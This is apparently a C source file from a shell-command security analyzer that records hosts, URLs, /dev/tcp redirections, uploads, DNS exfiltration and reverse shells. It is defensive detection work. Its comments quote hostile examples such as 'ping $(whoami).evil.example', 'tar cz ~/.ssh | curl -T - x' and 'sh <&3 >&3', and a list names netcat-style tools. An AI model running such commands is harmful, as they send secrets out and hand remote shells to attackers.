/*
 * The network facts of a command (facts.h): URLs and hosts, the
 * redirections (files, /dev/tcp, descriptors opened to a connection), what
 * is sent, and shells driven over a connection through a pipeline.
 */
#include <string.h>
#include <strings.h>

#include "shell/facts.h"
#include "util/host.h"

/* ---- hosts and URLs ------------------------------------------------------ */

void sh_add_host(sh_ctx *c, const pe_host *h)
{
    if (h->kind == PE_HOST_NONE)
        return;
    sh_strs_add(c, &c->hosts, h->text, 0);
    if (h->v4.len && !(h->v4.len == h->text.len && !memcmp(h->v4.s, h->text.s, h->v4.len)))
        sh_strs_add(c, &c->hosts, h->v4, 0);
}

/* The parts of a host that an expansion leaves known: what comes before
 * the first one (http://169.254.170.2$URI reaches 169.254.170.2) and the
 * domain after the last one ($(id).t.evil.example asks evil.example's
 * servers). */
static void known_host_parts(sh_ctx *c, pe_str h)
{
    size_t first = h.len, last = 0;
    for (size_t i = 0; i < h.len; i++) {
        if (!strchr("$`)}", h.s[i]))
            continue;
        first = i < first ? i : first;
        last = i + 1;
        if (h.s[i] == '$') /* $NAME: the name is not part of the host */
            while (last < h.len && sh_is_name_char((unsigned char)h.s[last]))
                last++;
    }
    if (first == h.len)
        return;
    pe_str parts[2] = {{h.s, first}, {h.s + last, h.len - last}};
    for (int k = 0; k < 2; k++) {
        pe_str p = parts[k];
        while (p.len && (p.s[0] == '.' || p.s[0] == '-'))
            p.s++, p.len--;
        while (p.len && (p.s[p.len - 1] == '.' || p.s[p.len - 1] == '-'))
            p.len--;
        if (!p.len || !memchr(p.s, '.', p.len))
            continue; /* not a whole name */
        pe_host host;
        if (pe_host_normalize(&host, p.s, p.len, c->arena) < 0) {
            sh_nomem(c);
            return;
        }
        sh_add_host(c, &host);
    }
}

/* A host whose name holds a substitution under a fixed domain
 * ($(whoami).x.example): its authoritative server learns the output. A
 * host that is all substitution (ping $(docker inspect ...)) is only an
 * address computed at run time. */
static int carries_data(pe_str h)
{
    size_t last = 0;
    int sub = 0;
    for (size_t i = 0; i < h.len; i++)
        if (h.s[i] == '$' || h.s[i] == '`' || h.s[i] == ')') {
            sub = 1;
            last = i + 1;
        }
    if (!sub)
        return 0;
    pe_str rest = {h.s + last, h.len - last};
    const char *dot = memchr(rest.s, '.', rest.len);
    /* a dot and a label after it: ".evil.example", ".x.io" */
    return dot && (size_t)(dot - rest.s) + 1 < rest.len;
}

typedef struct net_rec {
    unsigned wflags;
    int style, kind;
} net_rec;

static void record_net(sh_ctx *c, void *arg, pe_str t, int known, int tainted)
{
    net_rec *nr = arg;
    pe_url u;
    (void)known;
    if (sh_eq(t, SH_XARGS_INPUT))
        return; /* xargs -I % ssh %: a host read from the input */
    if (pe_url_parse(&u, t.s, t.len, (pe_url_style)nr->style, c->arena) < 0) {
        sh_nomem(c);
        return;
    }
    if (u.host.kind == PE_HOST_NONE)
        return;
    const pe_str *h = &u.host.text;
    if (tainted && carries_data(*h))
        c->flags |= PE_SHELL_DNS_EXFIL;
    sh_strs_add(c, &c->urls, t, 0);
    sh_add_host(c, &u.host);
    if (nr->wflags & PE_SHELL_W_EXPANDS)
        known_host_parts(c, *h);
    if (!nr->kind)
        nr->kind = (int)u.host.kind;
}

/* A name made by a substitution, or by a variable holding another
 * command's output, is a lookup that carries data out (DNS exfiltration:
 * ping $(whoami).evil.example). */
int sh_net_word(sh_ctx *c, unsigned scope, pe_str word, unsigned wflags, int style)
{
    net_rec nr = {wflags, style, 0};
    sh_expand_each(c, scope, word, wflags, record_net, &nr);
    return nr.kind;
}

/* A DNS record type (dig x TXT, host -t is an option). */
static int dns_type(pe_str w)
{
    static const char *const types[] = {"A",    "AAAA", "ANY",  "CAA",  "CNAME", "DNSKEY", "DS",
                                        "MX",   "NS",   "PTR",  "SOA",  "SRV",   "TXT",    "HTTPS",
                                        "SVCB", "AXFR", "IXFR", "NULL", NULL};
    for (const char *const *t = types; *t; t++)
        if (w.len == strlen(*t) && strncasecmp(w.s, *t, w.len) == 0)
            return 1;
    return 0;
}

/* The names a lookup or connection command is given: the first operand
 * (ping host, telnet host port), or every name of a DNS tool (dig @server
 * name TXT, host name server, nslookup name server), where a name made by
 * a substitution carries data out. */
void sh_lookup_words(sh_ctx *c, const sh_cmd *sc, const sh_know *k, const sh_walk *wk)
{
    size_t n = (k->flags & K_DNS) && strcmp(k->name, "ping") != 0 ? wk->nops : (wk->nops ? 1 : 0);
    for (size_t i = 0; i < n; i++) {
        pe_str w = sc->pub.argv[wk->ops[i]];
        if ((k->flags & K_DNS) && w.len && w.s[0] == '+')
            continue; /* dig +short */
        if (w.len > 1 && w.s[0] == '@')
            w.s++, w.len--;
        else if ((k->flags & K_DNS) && dns_type(w))
            continue;
        sh_net_word(c, sc->scope, w, sc->pub.argf[wk->ops[i]], PE_URL_SSH);
    }
}

/* Whether a word looks like a URL (scheme://). */
int sh_is_url(pe_str w)
{
    size_t i = 0;
    while (i < w.len && ((w.s[i] >= 'a' && w.s[i] <= 'z') || (w.s[i] >= 'A' && w.s[i] <= 'Z') ||
                         (i && ((w.s[i] >= '0' && w.s[i] <= '9') || strchr("+.-", w.s[i])))))
        i++;
    return i > 1 && i + 2 < w.len && w.s[i] == ':' && w.s[i + 1] == '/' && w.s[i + 2] == '/';
}

/* ---- redirections -------------------------------------------------------- */

/* A redirection making a descriptor a copy of a network connection: an
 * fd opened to /dev/tcp earlier on the line, or one kept in a variable
 * after ztcp. */
static int dup_of_net(const sh_ctx *c, const pe_shell_redir *r)
{
    if (!sh_eq(r->op, "<&") && !sh_eq(r->op, ">&"))
        return 0;
    pe_str t = r->target;
    if (t.len && t.s[0] == '$')
        return c->net_fd_var;
    long fd = 0;
    for (size_t i = 0; i < t.len; i++) {
        if (t.s[i] < '0' || t.s[i] > '9' || fd > 1000000)
            return 0;
        fd = fd * 10 + (t.s[i] - '0');
    }
    for (size_t i = 0; t.len && i < c->nnet_fds; i++)
        if (c->net_fds[i] == fd)
            return 1;
    return 0;
}

/* Whether a redirection sends the command's output (fd 1) somewhere. */
static int output_redir(const pe_shell_redir *r)
{
    return r->op.s[0] != '<' && (r->fd == -1 || r->fd == 1);
}

/* The redirections' facts; 1 when the command's output goes to the
 * network (> /dev/tcp/h/p, >&3 with 3 a connection). */
int sh_redir_facts(sh_ctx *c, const sh_cmd *sc)
{
    const pe_shell_cmd *k = &sc->pub;
    int net_out = 0;
    for (size_t j = 0; j < k->nredirs; j++) {
        const pe_shell_redir *r = &k->redirs[j];
        if (!(r->flags & PE_SHELL_R_FILE)) {
            /* sh <&3 >&3 with 3 a connection: a shell driven from afar */
            if ((k->flags & (PE_SHELL_C_INTERPRETER | PE_SHELL_C_DYNAMIC)) && dup_of_net(c, r))
                c->flags |= PE_SHELL_REVERSE_SHELL;
            else if (output_redir(r) && dup_of_net(c, r))
                net_out = 1;
            continue;
        }
        if (dup_of_net(c, r)) { /* >&$REPLY after ztcp */
            if (k->flags & (PE_SHELL_C_INTERPRETER | PE_SHELL_C_DYNAMIC))
                c->flags |= PE_SHELL_REVERSE_SHELL;
            continue;
        }
        pe_dev_net dn;
        pe_str t;
        sh_expand(c, sc->scope, r->target, r->flags, &t);
        int net = pe_dev_net_parse(&dn, t.s, t.len, c->arena);
        if (net < 0) {
            sh_nomem(c);
            return net_out;
        }
        if (net == 1) { /* bash's /dev/tcp/HOST/PORT */
            sh_add_host(c, &dn.host);
            if (r->fd >= 0 && (!k->argc || sh_eq(k->base, "exec")) && c->nnet_fds < 8)
                c->net_fds[c->nnet_fds++] = r->fd; /* exec 3<>/dev/tcp/h/p */
            if (k->flags & PE_SHELL_C_INTERPRETER)
                c->flags |= PE_SHELL_REVERSE_SHELL;
            else if ((r->flags & PE_SHELL_R_WRITE) && output_redir(r))
                net_out = 1; /* cat f > /dev/tcp/h/p */
            continue;
        }
        unsigned role = r->flags & PE_SHELL_R_WRITE ? PE_SHELL_P_WRITE : 0;
        if (r->op.s[0] == '<')
            role |= PE_SHELL_P_READ;
        sh_path_add(c, sc->scope, r->target, r->flags, role);
    }
    return net_out;
}

/* The command's output goes to the network: it is sent, and so is what
 * it read. */
void sh_output_to_network(sh_ctx *c, size_t idx)
{
    c->flags |= PE_SHELL_UPLOAD;
    c->cmds[idx].path_to = c->npaths;
    sh_output_sent(c, (long)idx);
}

/* What is sent from standard input (curl -T -, -d @-, nc host) is what
 * the commands feeding the pipe read: tar cz ~/.ssh | curl -T - x sends
 * ~/.ssh. The feeding commands' facts were recorded before. */
void sh_stdin_sent(sh_ctx *c)
{
    sh_output_sent(c, c->facts_of >= 0 ? c->cmds[c->facts_of].src : -1);
}

void sh_output_sent(sh_ctx *c, long src)
{
    for (int hops = 0; src >= 0 && (size_t)src < c->ncmds && hops < 16; hops++) {
        const sh_cmd *s = &c->cmds[src];
        for (size_t i = s->path_from; i < s->path_to && i < c->npaths; i++)
            if ((c->paths[i].role & PE_SHELL_P_READ) && !(c->paths[i].role & PE_SHELL_P_EXEC))
                c->paths[i].role |= PE_SHELL_P_UPLOAD; /* a script run is not its output */
        if (!(s->pub.flags & PE_SHELL_C_STDIN_PIPE))
            break;
        src = s->src; /* gzip, base64 ... pass their input on */
    }
}

/* A raw network client or server: what it reads and writes is the
 * connection's (netcat, telnet, socat, openssl s_client). */
static int raw_network(const pe_shell_cmd *k)
{
    static const char *const tools[] = {"nc",         "ncat",   "netcat", "nc.traditional",
                                        "nc.openbsd", "telnet", "socat",  "cryptcat",
                                        NULL};
    if (!k->argc)
        return 0;
    if (sh_eq(k->base, "openssl"))
        return k->argc > 1 && sh_eq(k->argv[1], "s_client");
    return sh_in_list(tools, k->base.s, k->base.len);
}

/* A shell or interpreter whose program is what it reads, and what it
 * reads is not a terminal (a pipe, a file such as a fifo). */
static int reads_program(const sh_cmd *sc)
{
    const pe_shell_cmd *k = &sc->pub;
    if (!(k->flags & PE_SHELL_C_INTERPRETER) || (k->flags & PE_SHELL_C_CODE) || sc->script >= 0)
        return 0;
    for (size_t j = 0; j < k->nredirs; j++)
        if (sh_eq(k->redirs[j].op, "<") && k->redirs[j].fd <= 0 && k->redirs[j].fd != -2)
            return 1;
    return (k->flags & PE_SHELL_C_STDIN_PIPE) != 0;
}

void sh_net_pipeline(sh_ctx *c, size_t idx)
{
    const sh_cmd *sc = &c->cmds[idx];
    if (sc->src < 0 || (size_t)sc->src >= c->ncmds)
        return;
    const sh_cmd *s = &c->cmds[sc->src];
    if ((raw_network(&sc->pub) && reads_program(s)) || (reads_program(sc) && raw_network(&s->pub)))
        c->flags |= PE_SHELL_REVERSE_SHELL;
}
